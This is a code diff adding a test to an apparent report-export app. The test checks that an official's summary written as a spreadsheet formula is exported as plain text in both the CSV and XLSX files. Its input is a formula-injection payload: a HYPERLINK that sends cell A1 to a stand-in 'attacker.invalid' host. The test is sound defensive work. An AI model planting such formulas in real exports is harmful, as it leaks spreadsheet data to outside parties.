@@ -268,6 +268,26 @@ def test_d_the_xlsx_and_the_csv_have_one_row_per_initiative_and_side(client, per
     assert {(r[0], r[side]) for r in cells[1:]} == {(c, s) for c in codes for s in ("Mexico", "Korea")}
 
 
+def test_d_a_summary_that_looks_like_a_formula_stays_text_in_both_files(client, personas, period, make_update):
+    """An official's summary is opened by the secretariats in a spreadsheet: it must never run as a formula."""
+    from openpyxl import load_workbook
+
+    from tracker import actions
+
+    typed = '=HYPERLINK("http://attacker.invalid/?"&A1,"Details")'
+    update = make_update(personas.alice, se_led_initiative().code, summary=typed)
+    actions.accept_update(update, user=personas.sec_mx)
+    report = make_report(period, personas)
+    client.force_login(personas.sec_mx)
+
+    rows = csv_rows(body_of(download(client, report, "csv")))
+    summary = rows[0].index("Latest accepted summary")
+    assert "'" + typed in [row[summary] for row in rows[1:]]
+    sheet = load_workbook(io.BytesIO(body_of(download(client, report, "xlsx")))).active
+    cells = [row[summary] for row in sheet.iter_rows(min_row=2) if row[summary].value == typed]
+    assert cells and all(cell.data_type == "s" for cell in cells)  # a string cell, not a formula ("f")
+
+
 # --- (e) Who may download ----------------------------------------------------------------------------------
 
 
